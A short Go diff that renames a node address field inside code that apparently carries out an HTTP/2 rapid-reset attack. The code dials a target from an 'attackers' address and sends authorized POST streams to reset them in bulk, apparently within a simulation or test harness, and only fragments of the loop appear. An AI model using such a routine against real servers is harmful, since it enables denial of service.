@@ -51,7 +51,7 @@ func resetRapidly(ctx context.Context, s *stage) error {
 // resetOnConnection resets streams on one connection, until the node ends it or there have been enough. whole says that the node
 // took all of them.
 func (s *stage) resetOnConnection(ctx context.Context) (count int64, whole bool) {
-	conn, err := (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(attackersAddress)}}).DialContext(ctx, "tcp", s.node.address)
+	conn, err := (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(attackersAddress)}}).DialContext(ctx, "tcp", s.node.Address)
 	if err != nil {
 		return 0, false
 	}
@@ -92,7 +92,7 @@ func (s *stage) resetOnConnection(ctx context.Context) (count int64, whole bool)
 	for stream := uint32(1); count < resetsPerConnection && !drained.Load(); stream += 2 {
 		head.Reset()
 		for _, field := range [][2]string{
-			{":method", "POST"}, {":scheme", "http"}, {":authority", s.node.address}, {":path", pathPosts + "ListPosts"},
+			{":method", "POST"}, {":scheme", "http"}, {":authority", s.node.Address}, {":path", pathPosts + "ListPosts"},
 			{"content-type", "application/json"}, {"authorization", "Bearer " + s.people.greedy.Key},
 		} {
 			_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // to memory
